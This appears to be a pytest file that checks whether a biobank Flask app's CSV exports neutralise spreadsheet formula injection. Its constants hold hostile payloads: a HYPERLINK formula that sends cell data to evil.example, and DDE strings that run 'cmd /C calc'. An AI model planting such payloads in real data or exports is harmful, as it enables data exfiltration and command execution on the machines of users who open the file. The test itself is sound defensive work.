"""Every CSV export neutralises formula cells (OWASP CSV injection; defect 7 of issue 15), on
SQLite and PostgreSQL: hostile text entered through the API (courier, tracking number, logger
ID, reasons, storage names) comes back in each export as text a spreadsheet will not run."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from flask import Flask

from biobank import create_app, get_db
from biobank.services import exports, storage
from tests.biobank.helpers import specimen_code, user
from tests.biobank.storage.conftest import received
from tests.conftest import open_session

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SUM = "+SUM(1,2)"
CMD = "@cmd"
DDE = "=cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"

# Every route that answers CSV, and how this test reaches it.
CSV_ROUTES = {
    "/shipments/<code>/manifest.<fmt>", "/api/v1/shipments/<code>/manifest.csv",
    "/shipments/custody/<barcode>.csv", "/audit/export.csv", "/storage/inventory.csv",
}


def test_every_csv_route_is_covered_here() -> None:
    app = create_app({"TESTING": True, "DATABASE_URL": "sqlite://", "SECRET_KEY": "x"})
    found = {r.rule for r in app.url_map.iter_rules()
             if r.rule.endswith(".csv") or r.rule.endswith(".<fmt>")}
    assert found == CSV_ROUTES


#: Views that send a stored upload back as it was (CSV among them), so its cells cannot be
#: rewritten on the way out: the upload refuses formula cells on the way in instead
#: (variant_calling/mlpa.py; tests/biobank/genotyping/test_mlpa_import.py and
#: tests/variant_calling/test_mlpa.py send one).
STORED_ORIGINALS = {"/genotyping/analyses/<int:analysis_id>/documents/<int:input_id>"}


def test_every_view_answering_csv_is_covered_here() -> None:
    """Not only routes ending in .csv: any view whose code answers text/csv."""
    import inspect

    app = create_app({"TESTING": True, "DATABASE_URL": "sqlite://", "SECRET_KEY": "x"})
    answering = {r.rule for r in app.url_map.iter_rules()
                 if "text/csv" in inspect.getsource(inspect.unwrap(app.view_functions[
                     r.endpoint]))}
    assert answering, "the source scan found no CSV view at all"
    assert answering <= CSV_ROUTES | STORED_ORIGINALS, answering - CSV_ROUTES - STORED_ORIGINALS


@pytest.mark.parametrize(("raw", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+2", "'-1+2"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("-78.5", "-78.5"), ("-", "'-"), ("plain", "plain"), (None, ""),
    (3, "3"), ("a=b", "a=b"),
])
def test_a_cell_starting_a_formula_is_quoted(raw: object, cell: str) -> None:
    assert exports.cell(raw) == cell


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _safe(rows: list[list[str]]) -> None:
    number = re.compile(r"-?\d+(\.\d+)?")
    for row in rows:
        for value in row:
            assert not value.startswith(exports.FORMULA_START) or number.fullmatch(value), (
                f"formula cell {value!r} in {row}")


def _api(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def test_defect7_every_export_neutralises_hostile_cells(app: Flask, db: Any,
                                                        api_token: Any) -> None:
    c = app.test_client()
    site = _api(api_token("s01.tech"))
    tube = specimen_code(db, status="collected", site="S01")
    sh = c.post("/api/v1/shipments", headers=site, json={
        "conditions": "dry_ice", "courier": HYPERLINK, "tracking_number": SUM,
        "logger_id": CMD}).json["barcode"]
    assert c.post(f"/api/v1/shipments/{sh}/items", headers=site,
                  json={"code": tube}).status_code == 200
    other = c.post("/api/v1/shipments", headers=site, json={"conditions": "ambient"}).json
    assert c.post(f"/api/v1/shipments/{other['barcode']}/cancel", headers=site,
                  json={"reason": MINUS}).status_code == 200
    disposed = specimen_code(db, status="expected", site="S01")
    assert c.post(f"/api/v1/specimens/{disposed}/transitions", headers=site,
                  json={"action": "dispose", "reason": DDE}).status_code == 200
    # Storage names reach the inventory: a freezer and a box named like formulas.
    (kept,) = received(app, 1)
    with get_db(app).transaction() as s:
        tech = user(s, "cb.tech")
        unit = storage.create_location(s, tech, kind="freezer_minus80", name=DDE)
        box = storage.create_box(s, tech, box_type="cryobox_9x9", name=TAB, location=unit)
        storage.store(s, tech, box, storage_specimen(s, tech, kept), None)

    page = app.test_client()
    open_session(app, page, "s01.tech")
    auditor = app.test_client()
    open_session(app, auditor, "monitor")
    cb_page = app.test_client()
    open_session(app, cb_page, "cb.tech")
    exported = {
        "manifest page": page.get(f"/shipments/{sh}/manifest.csv"),
        "manifest api": c.get(f"/api/v1/shipments/{sh}/manifest.csv", headers=site),
        "custody": page.get(f"/shipments/custody/{tube}.csv"),
        "audit": auditor.get("/audit/export.csv"),
        "inventory": cb_page.get("/storage/inventory.csv"),
    }
    for name, resp in exported.items():
        assert resp.status_code == 200 and resp.mimetype == "text/csv", name
        _safe(_cells(resp.get_data(as_text=True)))
    manifest = [v for row in _cells(exported["manifest page"].get_data(as_text=True))
                for v in row]
    assert {"'" + HYPERLINK, "'" + SUM, "'" + CMD} <= set(manifest)
    assert exported["manifest api"].get_data() == exported["manifest page"].get_data()
    audit_cells = {v for row in _cells(exported["audit"].get_data(as_text=True)) for v in row}
    assert {"'" + DDE, "'" + MINUS} <= audit_cells
    inventory = _cells(exported["inventory"].get_data(as_text=True))
    row = next(r for r in inventory if kept in r)
    assert row[0] == "'" + DDE and row[1].startswith("'" + DDE)


def storage_specimen(s: Any, tech: Any, code: str) -> Any:
    from biobank.services import access

    return access.get_specimen(s, tech, code)
